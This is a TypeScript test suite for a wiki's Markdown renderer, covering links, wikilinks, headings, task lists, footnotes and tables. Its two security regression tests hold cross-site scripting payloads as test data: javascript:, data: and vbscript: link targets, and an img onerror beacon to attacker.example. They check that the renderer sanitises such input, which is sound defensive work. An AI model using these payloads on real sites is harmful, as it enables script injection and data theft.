import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderMarkdown } from './markdown.ts';
import type { WikiLink } from './wikilinks.ts';
import { sectionId } from './wikilinks.ts';

/** Every href in some HTML, with entities decoded and spaces removed. */
function hrefs(html: string): string[] {
  return [...html.matchAll(/href="([^"]*)"/g)].map((match) =>
    (match[1] ?? '')
      .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) =>
        String.fromCodePoint(parseInt(hex, 16)),
      )
      .replace(/&#(\d+);?/g, (_, dec: string) =>
        String.fromCodePoint(Number(dec)),
      )
      .replace(/&amp;/g, '&')
      .replace(/[\s\u0000-\u001f]/g, ''),
  );
}

test('Markdown links with script schemes render as text, never as links (BUG-08)', () => {
  const targets = [
    'javascript:alert(1);//"onmouseover="alert(document.domain);//',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java&#x09;script:alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
  ];
  for (const target of targets) {
    const html = renderMarkdown(`[site](${target})`);
    for (const href of hrefs(html)) {
      assert.doesNotMatch(href, /^(javascript|data|vbscript):/i, target);
    }
    assert.doesNotMatch(html, /<[^>]*\son\w+\s*=/i, target);
  }
});

test('raw HTML in Markdown is shown as text (BUG-11)', () => {
  const html = renderMarkdown(
    '# Welcome\n' +
      '<img src="x" onerror="navigator.sendBeacon(\'https://attacker.example/t\')">\n' +
      '<iframe src="javascript:alert(1)"></iframe>\n' +
      '<a href="#" style="position:fixed;top:0">x</a>',
  );

  assert.doesNotMatch(html, /<(img|iframe)\b/);
  assert.doesNotMatch(html, /<a href="#"/);
  assert.doesNotMatch(html, /<[^>]*\sstyle=/);
  assert.match(html, /<h2 id="h-welcome">Welcome<\/h2>/);
  assert.match(html, /&lt;img src="x" onerror=/);
});

test('ordinary links, lists and tables render', () => {
  const html = renderMarkdown(
    '[GOV.UK](https://www.gov.uk) and <mailto:team@example.gov.uk>\n\n' +
      '- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  );

  assert.match(
    html,
    /<a href="https:\/\/www.gov.uk" rel="noopener noreferrer">GOV.UK<\/a>/,
  );
  assert.match(html, /<a href="mailto:team@example.gov.uk"/);
  assert.match(html, /<li>two<\/li>/);
  assert.match(html, /<td>2<\/td>/);
});

const resolver = {
  resolve: (link: WikiLink) => ({
    href:
      `/wiki/site/${encodeURIComponent(link.title)}` +
      (link.section === null ? '' : `#${sectionId(link.section)}`),
    exists: link.title !== 'Missing',
  }),
};

test('without the wikiLinks option a wikilink is its label or target', () => {
  const html = renderMarkdown('[[Leave|time off]] and [[Leave#Sick leave]]');

  assert.equal(html, '<p>time off and Leave#Sick leave</p>\n');
});

test('wikilinks to existing and missing pages render differently', () => {
  const html = renderMarkdown(
    '[[Onboarding/First week#Day one|first day]] or [[Missing]]',
    { wikiLinks: resolver },
  );

  assert.equal(
    html,
    '<p><a href="/wiki/site/Onboarding%2FFirst%20week#h-day-one" ' +
      'class="app-wikilink">first day</a> or ' +
      '<a href="/wiki/site/Missing" class="app-wikilink app-wikilink--missing">' +
      'Missing<span class="govuk-visually-hidden"> (page does not exist yet)' +
      '</span></a></p>\n',
  );
});

test('headings get prefixed ids that are unique and match sectionId', () => {
  const html = renderMarkdown('# Day one\n## Day one\n### Día *uno*\n#### ?!');

  assert.equal(
    html,
    `<h2 id="${sectionId('Day one')}">Day one</h2>\n` +
      '<h3 id="h-day-one-2">Day one</h3>\n' +
      '<h4 id="h-día-uno">Día <em>uno</em></h4>\n' +
      '<h5 id="h-section">?!</h5>\n',
  );
});

test('headings start below the page’s own h1, and level 6 stays 6', () => {
  const html = renderMarkdown('# One\n\n###### Six\n\n<h1>raw</h1>');

  assert.equal(
    html,
    '<h2 id="h-one">One</h2>\n' +
      '<h6 id="h-six">Six</h6>\n' +
      '<p>&lt;h1&gt;raw&lt;/h1&gt;</p>\n',
  );
});

test('task list items render as disabled checkboxes inside a label', () => {
  const html = renderMarkdown('- [ ] draft\n- [x] review\n- [y] not a task');

  assert.equal(
    html,
    '<ul class="app-task-list">\n' +
      '<li class="app-task-list__item"><label class="app-task-list__label">' +
      '<input type="checkbox" disabled class="app-task-list__checkbox" /> ' +
      'draft</label></li>\n' +
      '<li class="app-task-list__item"><label class="app-task-list__label">' +
      '<input type="checkbox" disabled checked ' +
      'class="app-task-list__checkbox" /> review</label></li>\n' +
      '<li>[y] not a task</li>\n</ul>\n',
  );
});

test('footnotes link both ways with prefixed ids', () => {
  const html = renderMarkdown('Fact[^src].\n\n[^src]: The source.');

  assert.equal(
    html,
    '<p>Fact<sup class="footnote-ref"><a href="#fn-1" id="fnref-1">[1]</a>' +
      '</sup>.</p>\n<hr class="footnotes-sep" />\n' +
      '<section class="footnotes">\n<ol class="footnotes-list">\n' +
      '<li class="footnote-item" id="fn-1"><p>The source. ' +
      '<a href="#fnref-1" class="footnote-backref">↩︎' +
      '<span class="govuk-visually-hidden"> back to reference 1</span>' +
      '</a></p>\n</li>\n</ol>\n</section>\n',
  );
});

test('table alignment becomes GOV.UK classes, not style attributes', () => {
  const html = renderMarkdown('| a | b |\n|:-:|--:|\n| 1 | 2 |');

  assert.match(html, /<th class="govuk-!-text-align-centre">a<\/th>/);
  assert.match(html, /<td class="govuk-!-text-align-right">2<\/td>/);
});

test('only links to other sites get rel="noopener noreferrer"', () => {
  const html = renderMarkdown(
    '[in](/groups) [up](../x) [out](http://a.example)',
  );

  assert.equal(
    html,
    '<p><a href="/groups">in</a> <a href="../x">up</a> ' +
      '<a href="http://a.example" rel="noopener noreferrer">out</a></p>\n',
  );
});

test('a heading whose slug a numbered duplicate took gets its own number', () => {
  const html = renderMarkdown('# A 2\n# A\n# A\n# A 2');
  const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((match) => match[1]);

  assert.deepEqual(ids, ['h-a-2', 'h-a', 'h-a-3', 'h-a-2-2']);
});
